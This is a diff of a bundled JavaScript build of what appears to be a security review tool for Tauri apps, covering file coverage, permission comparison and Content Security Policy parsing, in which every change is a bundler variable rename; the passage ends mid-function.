@@ -29208,17 +32183,17 @@ function foldedPath(path) {
   return PLAIN3.test(path) ? path : path.split("/").map(foldedName).join("/");
 }
 var PLAIN3 = /^[a-z0-9_-]+(?:[./][a-z0-9_-]+)*$/;
-function namesFor(name, known6) {
+function namesFor(name, known7) {
   const folded4 = foldedName(name);
-  const foldedKnown = foldedNames(known6);
+  const foldedKnown = foldedNames(known7);
   const isShort = name.includes("~");
-  const others = known6.filter((each, i2) => foldedKnown[i2] === folded4 || isShort && isShortFor(name, each));
+  const others = known7.filter((each, i2) => foldedKnown[i2] === folded4 || isShort && isShortFor(name, each));
   return [.../* @__PURE__ */ new Set([name, ...others])];
 }
 var foldedOf = /* @__PURE__ */ new WeakMap();
-function foldedNames(known6) {
-  const folded4 = foldedOf.get(known6) ?? known6.map(foldedName);
-  foldedOf.set(known6, folded4);
+function foldedNames(known7) {
+  const folded4 = foldedOf.get(known7) ?? known7.map(foldedName);
+  foldedOf.set(known7, folded4);
   return folded4;
 }
 var SHORT2 = /^([^.~]{1,6})~\d+(?:\.([^.]{0,3}))?$/;
@@ -29278,22 +32253,22 @@ function foldedGaps({ entries, unfollowed }, apps) {
     all.flatMap(({ path }) => twins.has(foldedPath(path)) ? [[foldedPath(path), path]] : [])
   );
   return apps.flatMap((app) => {
-    const known6 = [...KNOWN_NAMES, ...app.root.split("/")];
+    const known7 = [...KNOWN_NAMES, ...app.root.split("/")];
     return odd.flatMap((each) => {
       const twin = plain5.get(each.folded);
       if (twin !== void 0 && twin !== each.path && isWanted(twin, app))
         return [foldedGap(each, twin, app)];
-      const paths3 = pathsFor(each.path, known6);
+      const paths3 = pathsFor(each.path, known7);
       const meant = paths3 === void 0 ? app.config : paths3.find((path) => isMeant(each.path, path, app));
       return meant === void 0 ? [] : [foldedGap(each, meant, app)];
     });
   });
 }
 var MOST_PATHS = 64;
-function pathsFor(path, known6) {
-  const names2 = path.split("/").map((name) => namesFor(name, known6));
-  if (names2.reduce((count, each) => count * each.length, 1) > MOST_PATHS) return void 0;
-  return names2.reduce((paths3, each) => each.flatMap((name) => paths3.map((start) => `${start}/${name}`)));
+function pathsFor(path, known7) {
+  const names3 = path.split("/").map((name) => namesFor(name, known7));
+  if (names3.reduce((count, each) => count * each.length, 1) > MOST_PATHS) return void 0;
+  return names3.reduce((paths3, each) => each.flatMap((name) => paths3.map((start) => `${start}/${name}`)));
 }
 function otherThan(name) {
   const folded4 = foldedName(name);
@@ -29338,8 +32313,8 @@ function leavesOf(root) {
 var LOOKS3 = "title width height minWidth minHeight maxWidth maxHeight x y center preventOverflow.** resizable maximizable minimizable closable fullscreen focus focusable maximized visible decorations alwaysOnBottom alwaysOnTop visibleOnAllWorkspaces skipTaskbar theme titleBarStyle hiddenTitle shadow windowEffects.** transparent tabbingIdentifier trafficLightPosition.** backgroundColor windowClassname zoomHotkeysEnabled scrollBarStyle allowLinkPreview disableInputAccessoryView create".split(
   " "
 );
-function eachOf(prefix, names2) {
-  return names2.map((name) => `${prefix}.${name}`);
+function eachOf(prefix, names3) {
+  return names3.map((name) => `${prefix}.${name}`);
 }
 var CONFIGURATION = {
   read: [
@@ -29484,18 +32459,18 @@ function camelCase2(name) {
 }
 
 // src/engine/coverage.ts
-function coverageOf(paths3, apps, base, head, known6) {
-  const read7 = [];
+function coverageOf(paths3, apps, base, head, known7) {
+  const read9 = [];
   const irrelevant = [];
   const uncovered = [];
   for (const path of [...paths3].sort()) {
-    const kind = kindOf2(path, apps);
-    const isRead = kind.isReadAnyway === true || base.files.has(path) || head.files.has(path) || isUnreadable(path, base, head);
-    const what = whatElse(path, kind, isRead, known6);
-    if (isRead) read7.push(path);
+    const kind = kindOf3(path, apps);
+    const isRead2 = kind.isReadAnyway === true || base.files.has(path) || head.files.has(path) || isUnreadable(path, base, head);
+    const what = whatElse(path, kind, isRead2, known7);
+    if (isRead2) read9.push(path);
     if (what !== void 0) uncovered.push({ path, what, gaps: [] });
-    else if (!isRead && kind.coverage === "irrelevant") irrelevant.push(path);
-    else if (!isRead) uncovered.push({ path, what: kind.name, gaps: [] });
+    else if (!isRead2 && kind.coverage === "irrelevant") irrelevant.push(path);
+    else if (!isRead2) uncovered.push({ path, what: kind.name, gaps: [] });
     else if (isReadInPart(kind)) {
       const gaps = unreadParts(path, apps, base, head);
       if (gaps === void 0) uncovered.push({ path, what: kind.name, gaps: [] });
@@ -29503,21 +32478,21 @@ function coverageOf(paths3, apps, base, head, known6) {
     }
   }
   return {
-    changed: { read: read7, notCovered: uncovered.map(({ path }) => path), irrelevant },
+    changed: { read: read9, notCovered: uncovered.map(({ path }) => path), irrelevant },
     gaps: [
       ...uncovered.flatMap(({ gaps }) => gaps),
-      ...named7(uncovered.filter(({ gaps }) => gaps.length === 0))
+      ...named8(uncovered.filter(({ gaps }) => gaps.length === 0))
     ]
   };
 }
-function whatElse(path, kind, isRead, { isProgram: isProgram2, isIsolation, mentions }) {
+function whatElse(path, kind, isRead2, { isProgram: isProgram2, isIsolation, mentions }) {
   if (isIsolation(path)) return "part of an isolation application, whose hook sees every message to Rust";
-  const isOpen4 = kind.coverage === "irrelevant" || isRead && kind === UNKNOWN2;
+  const isOpen4 = kind.coverage === "irrelevant" || isRead2 && kind === UNKNOWN2;
   if (!isOpen4) return void 0;
   if (isProgram2(path))
     return "a program that a build of the app may run, or a file that such a program loads";
   const mention = mentions.get(path);
-  const isJudged = mention === void 0 || isRead && /\.(?:rs|json5?|toml)$/.test(mention.by);
+  const isJudged = mention === void 0 || isRead2 && /\.(?:rs|json5?|toml)$/.test(mention.by);
   return isJudged ? void 0 : `${code(mention.by)} names it`;
 }
 function isReadInPart(kind) {
@@ -29527,7 +32502,7 @@ function isUnreadable(path, ...sides) {
   return sides.some(({ gaps }) => gaps.some((gap3) => gap3.path === path));
 }
 var MOST_ALONE = 3;
-function named7(files) {
+function named8(files) {
   return [...Map.groupBy(files, ({ what }) => what).values()].flatMap(
     (alike) => alike.length > MOST_ALONE ? [namedTogether(alike)] : alike.map((each) => namedTogether([each]))
   );
@@ -29549,8 +32524,8 @@ function unreadParts(path, apps, base, head) {
   );
   if (covered === void 0) return void 0;
   const [was, is] = [base, head].map(({ files }) => parsed4(files.get(path)));
-  const { read: read7, irrelevant } = covered;
-  return changedSettings(was, is, path).filter(({ key }) => !isAmong2(read7, key) && !isAmong2(irrelevant, key)).map(({ key, at: at2 }) => unreadSetting(key.filter((name) => name !== "*").join("."), at2));
+  const { read: read9, irrelevant } = covered;
+  return changedSettings(was, is, path).filter(({ key }) => !isAmong2(read9, key) && !isAmong2(irrelevant, key)).map(({ key, at: at2 }) => unreadSetting(key.filter((name) => name !== "*").join("."), at2));
 }
 function unreadSetting(name, at2) {
   const message = `${code(name)} changed. What it does isn't judged yet.`;
@@ -29578,10 +32553,10 @@ function decidingChanges(changed, apps, packages, makesNothing, isRun) {
 }
 function mayWrite(was, is, isRun) {
   if (!WRITES3.test(is.text)) return [];
-  const known6 = new Set(linesOf2(was, ANY_OF_TAURI).map(({ text: text2 }) => text2));
-  const named9 = (ofLong) => linesOf2(is, ofLong).filter(({ text: text2 }) => DECIDES_BUILD.test(text2));
-  const fresh = named9(ANY_OF_TAURI).find(({ text: text2 }) => !known6.has(text2));
-  const first = fresh ?? (isRun ? named9(OF_TAURI2)[0] : void 0);
+  const known7 = new Set(linesOf3(was, ANY_OF_TAURI).map(({ text: text3 }) => text3));
+  const named10 = (ofLong) => linesOf3(is, ofLong).filter(({ text: text3 }) => DECIDES_BUILD.test(text3));
+  const fresh = named10(ANY_OF_TAURI).find(({ text: text3 }) => !known7.has(text3));
+  const first = fresh ?? (isRun ? named10(OF_TAURI2)[0] : void 0);
   if (first === void 0) return [];
   const how = fresh === void 0 ? "changed, and names" : "newly names";
   const message = `This program ${how} what Tauri reads when the app is built, and may write it: look at what it does with ${code(
@@ -29596,14 +32571,14 @@ function isComment2(line, path) {
     return /^(?:(?!\*\/).)*(?:\*\/)?$/s.test(line);
   return false;
 }
-var LONGEST_LINE2 = 2e3;
-function linesOf2(file2, ofLong) {
+var LONGEST_LINE3 = 2e3;
+function linesOf3(file2, ofLong) {
   const counts3 = /* @__PURE__ */ new Map();
   return (file2?.text ?? "").split("\n").flatMap((written6, i2) => {
-    const text2 = written6.trim();
-    if (isComment2(text2, file2?.path ?? "")) return [];
-    if (text2.length <= LONGEST_LINE2) return [{ text: text2, line: i2 + 1 }];
-    return [...text2.matchAll(ofLong)].map(([word2]) => {
+    const text3 = written6.trim();
+    if (isComment2(text3, file2?.path ?? "")) return [];
+    if (text3.length <= LONGEST_LINE3) return [{ text: text3, line: i2 + 1 }];
+    return [...text3.matchAll(ofLong)].map(([word2]) => {
       const count = (counts3.get(word2) ?? 0) + 1;
       counts3.set(word2, count);
       return { text: `${word2} ${count}`, line: i2 + 1 };
@@ -29619,18 +32594,18 @@ function policyChanged(path, was, is) {
   return [gapIn(path, { kind: "not-checked", rests: wordsOf("policy in code", after2), message })];
 }
 function policiesIn2(file2) {
-  const text2 = file2?.text ?? "";
-  return [...text2.matchAll(POLICY)].map(({ index }) => nearby(text2, index) ?? file2?.id ?? "").sort();
+  const text3 = file2?.text ?? "";
+  return [...text3.matchAll(POLICY)].map(({ index }) => nearby(text3, index) ?? file2?.id ?? "").sort();
 }
-function nearby(text2, index) {
+function nearby(text3, index) {
   const from = Math.max(index - AROUND, 0);
-  const before2 = text2.slice(from, index);
+  const before2 = text3.slice(from, index);
   const start = from + Math.max(before2.lastIndexOf("<"), before2.lastIndexOf("\n"), from === 0 ? -1 : 0);
-  const rest2 = text2.slice(index, index + AROUND);
+  const rest2 = text3.slice(index, index + AROUND);
   const found9 = /\/>|>\s*\n|\n\s*\n|;\s*\n/.exec(rest2)?.index;
-  if (found9 === void 0 && index + AROUND < text2.length) return void 0;
+  if (found9 === void 0 && index + AROUND < text3.length) return void 0;
   const end = found9 ?? rest2.length;
-  return text2.slice(start + 1, index + end).replace(/\s+/g, " ").trim();
+  return text3.slice(start + 1, index + end).replace(/\s+/g, " ").trim();
 }
 function isOfFrontend(path, apps, packages) {
   const own = nearest(folderOf(path), packages);
@@ -29651,12 +32626,12 @@ function decidesByContent(file2, by) {
 
 // src/engine/isolation.ts
 var HOOK = "__TAURI_ISOLATION_HOOK__";
-function isolationOf(apps, read7, changed) {
-  const folders = new Set(read7.flatMap(({ files }) => foldersIn2(files, apps)));
+function isolationOf(apps, read9, changed) {
+  const folders = new Set(read9.flatMap(({ files }) => foldersIn3(files, apps)));
   const setsHook = ({ files }, path) => files.get(path)?.text.includes(HOOK) === true;
   return (path) => [...folders].some((folder) => path.startsWith(`${folder}/`)) || setsHook(changed.base, path) || setsHook(changed.head, path);
 }
-function foldersIn2(files, apps) {
+function foldersIn3(files, apps) {
   return [...files.values()].flatMap((file2) => {
     const app = apps.find((each) => isConfigLayer(file2.path, each));
     if (app === void 0 || !file2.text.includes("isolation")) return [];
@@ -29672,13 +32647,13 @@ function foldersIn2(files, apps) {
 }
 
 // src/engine/looked-at.ts
-function lookedAt(paths3, apps, { base, head, names: { programs: programs2, mentions, read: read7 } }, sides) {
+function lookedAt(paths3, apps, { base, head, names: { programs: programs2, mentions, read: read9 } }, sides) {
   const { changed, gaps } = coverageOf(paths3, apps, base, head, {
     isProgram: programs2.isOne,
-    isIsolation: isolationOf(apps, [base, head, read7.base, read7.head], programs2.changed),
+    isIsolation: isolationOf(apps, [base, head, read9.base, read9.head], programs2.changed),
     mentions
   });
-  const makesNothing = (path) => !programs2.isOne(path) && (isTest(path) || isAmongPages(path, apps) || kindOf2(path, apps).coverage === "irrelevant");
+  const makesNothing = (path) => !programs2.isOne(path) && (isTest(path) || isAmongPages(path, apps) || kindOf3(path, apps).coverage === "irrelevant");
   const packages = new Set(
     sides.head.listing.entries.filter(({ path }) => /(?:^|\/)package\.json$/.test(path)).map(({ path }) => folderOf(path))
   );
@@ -29695,8 +32670,8 @@ function lookedAt(paths3, apps, { base, head, names: { programs: programs2, ment
       ),
       ...programs2.changed.head.gaps.filter(({ path }) => !makesNothing(path)),
       ...[...mentions].flatMap(([path, { by, decides: decides3 }]) => {
-        const isRead = base.files.has(path) || head.files.has(path);
-        return decides3 && !isRead ? [decidesByContent({ path, id: sides.head.contents.at(path) }, by)] : [];
+        const isRead2 = base.files.has(path) || head.files.has(path);
+        return decides3 && !isRead2 ? [decidesByContent({ path, id: sides.head.contents.at(path) }, by)] : [];
       })
     ]
   };
@@ -29707,9 +32682,9 @@ function applyPolicy(found9, { rules: rules2 }) {
   const findings = [];
   const off = /* @__PURE__ */ new Map();
   for (const finding of found9) {
-    const setting10 = rules2.get(finding.rule);
-    if (setting10 === "off") off.set(finding.rule, (off.get(finding.rule) ?? 0) + 1);
-    else findings.push(setting10 === void 0 ? finding : { ...finding, severity: setting10 });
+    const setting12 = rules2.get(finding.rule);
+    if (setting12 === "off") off.set(finding.rule, (off.get(finding.rule) ?? 0) + 1);
+    else findings.push(setting12 === void 0 ? finding : { ...finding, severity: setting12 });
   }
   const turnedOff = [...off].map(([rule, count]) => ({ rule, findings: count }));
   return { findings, turnedOff: turnedOff.sort((a3, b5) => a3.rule < b5.rule ? -1 : 1) };
@@ -29720,15 +32695,15 @@ function verdictOf(findings, gaps, { failOn }) {
 }
 
 // src/domain/alike.ts
-function isAlike(one, other) {
-  if (Object.is(one, other)) return true;
-  if (typeof one !== "object" || typeof other !== "object" || one === null || other === null) return false;
-  if (Array.isArray(one) && Array.isArray(other))
-    return one.length === other.length && one.every((part, index) => isAlike(part, other[index]));
-  if (isCollection(one) && isCollection(other)) return isAlike([...one], [...other]);
-  if (Object.getPrototypeOf(one) !== Object.getPrototypeOf(other)) return false;
-  const keys = Object.keys(one);
-  return keys.length === Object.keys(other).length && keys.every((key) => Object.hasOwn(other, key) && isAlike(Reflect.get(one, key), Reflect.get(other, key)));
+function isAlike(one2, other) {
+  if (Object.is(one2, other)) return true;
+  if (typeof one2 !== "object" || typeof other !== "object" || one2 === null || other === null) return false;
+  if (Array.isArray(one2) && Array.isArray(other))
+    return one2.length === other.length && one2.every((part, index) => isAlike(part, other[index]));
+  if (isCollection(one2) && isCollection(other)) return isAlike([...one2], [...other]);
+  if (Object.getPrototypeOf(one2) !== Object.getPrototypeOf(other)) return false;
+  const keys = Object.keys(one2);
+  return keys.length === Object.keys(other).length && keys.every((key) => Object.hasOwn(other, key) && isAlike(Reflect.get(one2, key), Reflect.get(other, key)));
 }
 function isCollection(value) {
   return value instanceof Map || value instanceof Set;
@@ -29797,23 +32772,23 @@ var Extents = class {
     }
   }
   /** The platforms on which it, or a whole that it is part of, is let happen. */
-  platformsOf(asked2) {
-    const itself = this.#of.get(asked2.setting)?.get(asked2.extent) ?? NO_PLATFORM;
-    return itself | this.platformsOfWholes(asked2);
+  platformsOf(asked3) {
+    const itself = this.#of.get(asked3.setting)?.get(asked3.extent) ?? NO_PLATFORM;
+    return itself | this.platformsOfWholes(asked3);
   }
   /** The platforms on which something that it is only a part of is let happen. */
-  platformsOfWholes({ setting: setting10, extent }) {
-    const wholes = this.#wholes.get(setting10);
+  platformsOfWholes({ setting: setting12, extent }) {
+    const wholes = this.#wholes.get(setting12);
     if (wholes === void 0) return NO_PLATFORM;
     return wholesOf(extent).reduce((set, whole2) => set | (wholes.get(whole2) ?? NO_PLATFORM), NO_PLATFORM);
   }
   extentsBySetting() {
-    return new Map([...this.#of].map(([setting10, known6]) => [setting10, [...known6.keys()]]));
+    return new Map([...this.#of].map(([setting12, known7]) => [setting12, [...known7.keys()]]));
   }
 };
-function add2(to, { setting: setting10, extent, platforms }) {
-  const known6 = to.get(setting10) ?? /* @__PURE__ */ new Map();
-  to.set(setting10, known6.set(extent, (known6.get(extent) ?? NO_PLATFORM) | platforms));
+function add2(to, { setting: setting12, extent, platforms }) {
+  const known7 = to.get(setting12) ?? /* @__PURE__ */ new Map();
+  to.set(setting12, known7.set(extent, (known7.get(extent) ?? NO_PLATFORM) | platforms));
 }
 function wholesOf(extent) {
   if (extent === "") return [];
@@ -29825,23 +32800,23 @@ function wholesOf(extent) {
   return wholes;
 }
 var indexes2 = /* @__PURE__ */ new WeakMap();
-function candidates(grants, setting10, extent) {
+function candidates(grants, setting12, extent) {
   const index = indexes2.get(grants) ?? indexOf2(grants);
   indexes2.set(grants, index);
-  const exact = index.exact.get(nameOf7({ setting: setting10, extent })) ?? [];
-  const wholes = index.wholes.get(setting10) ?? [];
+  const exact = index.exact.get(nameOf7({ setting: setting12, extent })) ?? [];
+  const wholes = index.wholes.get(setting12) ?? [];
   return [
     ...exact,
     ...wholes.filter((whole2) => whole2.extent === "" || extent.startsWith(`${whole2.extent}${WITHIN}`))
   ];
 }
 function indexOf2(grants) {
-  const settings2 = settingsIn2(grants);
+  const settings2 = settingsIn4(grants);
   return {
     exact: Map.groupBy(settings2, nameOf7),
     wholes: Map.groupBy(
       settings2.filter(({ isWhole: isWhole2 }) => isWhole2),
-      ({ setting: setting10 }) => setting10
+      ({ setting: setting12 }) => setting12
     )
   };
 }
@@ -29850,8 +32825,8 @@ function placeOfPart(grants, part, platforms) {
     (grant) => grant.kind === "part" && grant.part === part && (grant.platforms & platforms) !== NO_PLATFORM
   )?.at;
 }
-function nameOf7({ setting: setting10, extent }) {
-  return JSON.stringify([setting10, extent]);
+function nameOf7({ setting: setting12, extent }) {
+  return JSON.stringify([setting12, extent]);
 }
 function partsIn(grants) {
   const parts = /* @__PURE__ */ new Map();
@@ -29861,7 +32836,7 @@ function partsIn(grants) {
   }
   return parts;
 }
-function settingsIn2(grants) {
+function settingsIn4(grants) {
   return grants.filter((grant) => grant.kind === "setting");
 }
 
@@ -29883,7 +32858,7 @@ var configComparison = {
     const platform = witness.platform === "any" ? platformsOf(platforms)[0] : witness.platform;
     if (witness.extent.startsWith(LIFTED)) {
       const guards = guardsIn(grants).filter(({ extent }) => extent === witness.extent);
-      return !guards.some((guard) => hasPlatform(guard.platforms, platform ?? PLATFORMS[0]));
+      return !guards.some((guard2) => hasPlatform(guard2.platforms, platform ?? PLATFORMS[0]));
     }
     return candidates(grants, witness.setting, witness.extent).some(
       (grant) => hasPlatform(grant.platforms, platform ?? PLATFORMS[0])
@@ -29891,23 +32866,23 @@ var configComparison = {
   }
 };
 function gained(before2, after2, direction, appIsNew) {
-  const had = new Extents(settingsIn2(before2));
+  const had = new Extents(settingsIn4(before2));
   const parts = partsIn(before2);
   const found9 = /* @__PURE__ */ new Map();
-  for (const grant of settingsIn2(after2)) {
+  for (const grant of settingsIn4(after2)) {
     const name = nameOf7(grant);
-    const known7 = found9.get(name);
+    const known8 = found9.get(name);
     const possible = grant.comesWith === null ? EVERY_PLATFORM : parts.get(grant.comesWith) ?? NO_PLATFORM;
     const fresh = grant.platforms & ~had.platformsOf(grant) & possible;
-    const platforms = fresh | (known7?.platforms ?? NO_PLATFORM);
-    if (platforms !== NO_PLATFORM) found9.set(name, { ...known7 ?? grant, platforms });
+    const platforms = fresh | (known8?.platforms ?? NO_PLATFORM);
+    if (platforms !== NO_PLATFORM) found9.set(name, { ...known8 ?? grant, platforms });
   }
   const wholes = new Extents(found9.values());
-  const known6 = had.extentsBySetting();
+  const known7 = had.extentsBySetting();
   return [...found9.values()].flatMap((grant) => {
     const platforms = grant.platforms & ~wholes.platformsOfWholes(grant);
     if (platforms === NO_PLATFORM) return [];
-    const extents = known6.get(grant.setting) ?? [];
+    const extents = known7.get(grant.setting) ?? [];
     const waited = extents.includes(`${grant.extent}${UNHEEDED}`);
     const brought = waited && grant.heededBy ? placeOfPart(after2, grant.heededBy, platforms) : void 0;
     const context2 = { before: extents, waited: waited ? grant.at : null, appIsNew };
@@ -29916,18 +32891,18 @@ function gained(before2, after2, direction, appIsNew) {
 }
 function lifted(before2, after2, direction) {
   const kept = Map.groupBy(guardsIn(after2), nameOf7);
-  const gone = new Map(guardsIn(before2).map((guard) => [nameOf7(guard), guard]));
-  return [...gone.values()].flatMap((guard) => {
-    const still = (kept.get(nameOf7(guard)) ?? []).reduce((set, each) => set | each.platforms, NO_PLATFORM);
-    const platforms = guard.platforms & ~still;
+  const gone = new Map(guardsIn(before2).map((guard2) => [nameOf7(guard2), guard2]));
+  return [...gone.values()].flatMap((guard2) => {
+    const still = (kept.get(nameOf7(guard2)) ?? []).reduce((set, each) => set | each.platforms, NO_PLATFORM);
+    const platforms = guard2.platforms & ~still;
     if (platforms === NO_PLATFORM) return [];
-    return [{ ...changeOf2({ ...guard, platforms }, direction), before: [], waited: null, appIsNew: false }];
+    return [{ ...changeOf2({ ...guard2, platforms }, direction), before: [], waited: null, appIsNew: false }];
   });
 }
 function guardsIn(grants) {
   return grants.filter((grant) => grant.kind === "guard");
 }
-function changeOf2({ setting: setting10, extent, platforms, subject, action, example, written: written6, at: at2 }, direction) {
+function changeOf2({ setting: setting12, extent, platforms, subject, action, example, written: written6, at: at2 }, direction) {
   const [platform] = platformsOf(platforms);
   return {
     domain: "config",
@@ -29939,12 +32914,12 @@ function changeOf2({ setting: setting10, extent, platforms, subject, action, exa
       text: example,
       platform: platforms === EVERY_PLATFORM ? "any" : platform ?? "any",
       written: written6,
-      setting: setting10,
+      setting: setting12,
       extent
     },
-    identity: JSON.stringify([setting10, extent, platformsOf(platforms)]),
-    rule: SETTING_RULES[setting10],
-    setting: setting10,
+    identity: JSON.stringify([setting12, extent, platformsOf(platforms)]),
+    rule: SETTING_RULES[setting12],
+    setting: setting12,
     extent,
     platforms
   };
@@ -30065,10 +33040,10 @@ function familyOf(each) {
 // src/compare/csp/grouping.ts
 var MOST_HOSTS = 4;
 function group(all) {
-  const groups3 = Object.values(Object.groupBy(all, keyOf4)).map((members2) => groupOf(members2 ?? []));
+  const groups3 = Object.values(Object.groupBy(all, keyOf6)).map((members2) => groupOf(members2 ?? []));
   return listManyHosts(groups3.filter((each) => !prefetchOnly(each, groups3))).sort(byClass);
 }
-function keyOf4({ found: found9 }) {
+function keyOf6({ found: found9 }) {
   const { allowing, allowedBy, refusedBy, attempt: attempt2 } = found9;
   if (allowing.grant.header === null) return "no policy";
   const [family, refusing] = [familyOf(attempt2.act.class), refusedBy?.directive];
@@ -30200,49 +33175,49 @@ var QUOTED_WORDS = /* @__PURE__ */ new Set([
   "'script'"
 ]);
 var NONCE = /^'nonce-([A-Za-z0-9+/_-]+={0,2})'$/i;
-var HASH = /^'sha(256|384|512)-([A-Za-z0-9+/_-]+={0,2})'$/i;
+var HASH2 = /^'sha(256|384|512)-([A-Za-z0-9+/_-]+={0,2})'$/i;
 var SCHEME2 = /^([A-Za-z][A-Za-z0-9+.-]*):$/;
 var SCHEME_PREFIX = /^([A-Za-z][A-Za-z0-9+.-]*):\/\//;
-var HOSTS = {
+var HOSTS2 = {
   chromium: /^(?:\*|(?:\*\.)?[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.?)$/,
   webkit: /^(?:\*|(?:\*\.)?[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)*\.?)$/
 };
 var PORT = /^(?:\*|[0-9]+)$/;
-function parseSource(text2, engine) {
-  if (text2.startsWith("'")) return parseQuoted(text2);
-  const scheme = SCHEME2.exec(text2)?.[1];
-  if (scheme !== void 0) return { kind: "scheme", scheme: scheme.toLowerCase(), text: text2 };
-  return parseHost(text2, engine) ?? { kind: "invalid", text: text2 };
+function parseSource(text3, engine) {
+  if (text3.startsWith("'")) return parseQuoted(text3);
+  const scheme = SCHEME2.exec(text3)?.[1];
+  if (scheme !== void 0) return { kind: "scheme", scheme: scheme.toLowerCase(), text: text3 };
+  return parseHost(text3, engine) ?? { kind: "invalid", text: text3 };
 }
-function parseQuoted(text2) {
-  const word2 = text2.toLowerCase();
-  if (QUOTED_WORDS.has(word2)) return { kind: "keyword", word: word2, text: text2 };
-  const nonce = NONCE.exec(text2)?.[1];
-  if (nonce !== void 0) return { kind: "nonce", value: nonce, text: text2 };
-  const hash = HASH.exec(text2);
-  if (hash?.[2] !== void 0 && isBase64(hash[2])) return { kind: "hash", value: canonicalHash(text2), text: text2 };
-  return { kind: "invalid", text: text2 };
+function parseQuoted(text3) {
+  const word2 = text3.toLowerCase();
+  if (QUOTED_WORDS.has(word2)) return { kind: "keyword", word: word2, text: text3 };
+  const nonce = NONCE.exec(text3)?.[1];
+  if (nonce !== void 0) return { kind: "nonce", value: nonce, text: text3 };
+  const hash = HASH2.exec(text3);
+  if (hash?.[2] !== void 0 && isBase64(hash[2])) return { kind: "hash", value: canonicalHash(text3), text: text3 };
+  return { kind: "invalid", text: text3 };
 }
-function isBase64(text2) {
-  const digits2 = text2.replace(/(?<!=)=+$/, "").length;
-  const padding = text2.length - digits2;
+function isBase64(text3) {
+  const digits2 = text3.replace(/(?<!=)=+$/, "").length;
+  const padding = text3.length - digits2;
   return digits2 % 4 !== 1 && (padding === 0 || digits2 % 4 === 2 || digits2 % 4 === 3 && padding === 1);
 }
-function canonicalHash(text2) {
-  const bare = text2.replace(/^'|'$/g, "");
+function canonicalHash(text3) {
+  const bare = text3.replace(/^'|'$/g, "");
   const dash = bare.indexOf("-");
   const digest = bare.slice(dash + 1).replaceAll("-", "+").replaceAll("_", "/");
   return `${bare.slice(0, dash).toLowerCase()}-${digest}`;
 }
-function parseHost(text2, engine) {
-  const scheme = SCHEME_PREFIX.exec(text2)?.[1] ?? null;
-  const rest2 = scheme === null ? text2 : text2.slice(scheme.length + 3);
+function parseHost(text3, engine) {
+  const scheme = SCHEME_PREFIX.exec(text3)?.[1] ?? null;
+  const rest2 = scheme === null ? text3 : text3.slice(scheme.length + 3);
   const slash = rest2.indexOf("/");
   const authority = slash < 0 ? rest2 : rest2.slice(0, slash);
   const colon = authority.lastIndexOf(":");
   const host = colon < 0 ? authority : authority.slice(0, colon);
   const port = colon < 0 ? null : authority.slice(colon + 1);
-  if (!HOSTS[engine].test(host) || port !== null && !PORT.test(port)) return void 0;
+  if (!HOSTS2[engine].test(host) || port !== null && !PORT.test(port)) return void 0;
   const wildcard = host.startsWith("*");
   return {
     kind: "host",
@@ -30251,16 +33226,16 @@ function parseHost(text2, engine) {
     host: (wildcard ? host.slice(2) : host).toLowerCase(),
     port: port === null ? null : port === "*" ? "any" : Number(port),
     path: slash < 0 ? null : parsePath(rest2.slice(slash)),
-    text: text2
+    text: text3
   };
 }
-function parsePath(text2) {
-  const raw = text2.replace(/[?#].*$/, "");
+function parsePath(text3) {
+  const raw = text3.replace(/[?#].*$/, "");
   if (raw === "/" || raw === "") return null;
   return { raw, decoded: decodeOnce(raw), prefix: raw.endsWith("/") };
 }
-function decodeOnce(text2) {
-  return text2.replace(/(?:%[0-9A-Fa-f]{2})+/g, (escapes) => {
+function decodeOnce(text3) {
+  return text3.replace(/(?:%[0-9A-Fa-f]{2})+/g, (escapes) => {
     try {
       return decodeURIComponent(escapes);
     } catch {
@@ -30271,9 +33246,9 @@ function decodeOnce(text2) {
 
 // src/compare/csp/match-url.ts
 var DEFAULT_PORTS = { http: 80, https: 443, ws: 80, wss: 443 };
-function parseTarget(text2) {
-  if (!URL.canParse(text2)) return void 0;
-  const url = new URL(text2);
+function parseTarget(text3) {
+  if (!URL.canParse(text3)) return void 0;
+  const url = new URL(text3);
   const scheme = url.protocol.slice(0, -1);
   return {
     scheme,
@@ -30313,13 +33288,13 @@ function hostMatches(source, url, page, redirected) {
   if (scheme === "no" || !portMatches(source.port, url, scheme, page.engine)) return false;
   return redirected || source.path === null || pathMatches(source.path.decoded, source.path.prefix, url.path);
 }
-function schemeMatch(listed, asked2, engine) {
-  if (listed === asked2) return "same";
-  if (listed === "http" && asked2 === "https") return "upgraded";
-  if (listed === "ws" && asked2 === "wss") return "upgraded";
+function schemeMatch(listed, asked3, engine) {
+  if (listed === asked3) return "same";
+  if (listed === "http" && asked3 === "https") return "upgraded";
+  if (listed === "ws" && asked3 === "wss") return "upgraded";
   if (engine === "chromium") return "no";
-  if (listed === "ws" && isWeb(asked2)) return "upgraded";
-  return listed === "wss" && asked2 === "https" ? "upgraded" : "no";
+  if (listed === "ws" && isWeb(asked3)) return "upgraded";
+  return listed === "wss" && asked3 === "https" ? "upgraded" : "no";
 }
 function portMatches(port, url, scheme, engine) {
   if (port === "any") return true;
@@ -30427,14 +33402,14 @@ function decideReport(page, collector) {
 }
 
 // src/compare/csp/reach.ts
-function fetchable(text2, loadClass, document) {
-  const target = parseTarget(text2);
+function fetchable(text3, loadClass, document) {
+  const target = parseTarget(text3);
   if (!target || !asksFor2(loadClass, target, document)) return void 0;
   const own = document.origin;
   if (target.scheme === own.scheme && own.scheme !== "http" && own.scheme !== "https" && target.host !== own.host) {
     return void 0;
   }
-  return { href: new URL(text2).href, target };
+  return { href: new URL(text3).href, target };
 }
 function asksFor2(loadClass, url, document) {
   const web = url.scheme === "http" || url.scheme === "https";
@@ -30529,87 +33504,87 @@ function addTo(map, key, source) {
 }
 
 // src/compare/csp/urls.ts
-function urlsOf(source, setting10) {
-  return textsOf3(source, setting10).map((url) => ({ url, source }));
+function urlsOf(source, setting12) {
+  return textsOf3(source, setting12).map((url) => ({ url, source }));
 }
-function anyUrls(setting10) {
-  const { document } = setting10;
+function anyUrls(setting12) {
+  const { document } = setting12;
   const schemes = ["https", "http", "wss", "ws", "data", "blob", "asset", "ipc", "custom"];
-  const urls2 = schemes.flatMap((scheme) => urlsOfScheme(scheme, setting10));
-  return [...urls2, ...urlsOfSelf(document, setting10)].map((url) => ({ url, source: null }));
+  const urls2 = schemes.flatMap((scheme) => urlsOfScheme(scheme, setting12));
+  return [...urls2, ...urlsOfSelf(document, setting12)].map((url) => ({ url, source: null }));
 }
-function textsOf3(source, setting10) {
-  if (source.kind === "keyword") return urlsOfSelf(setting10.document, setting10);
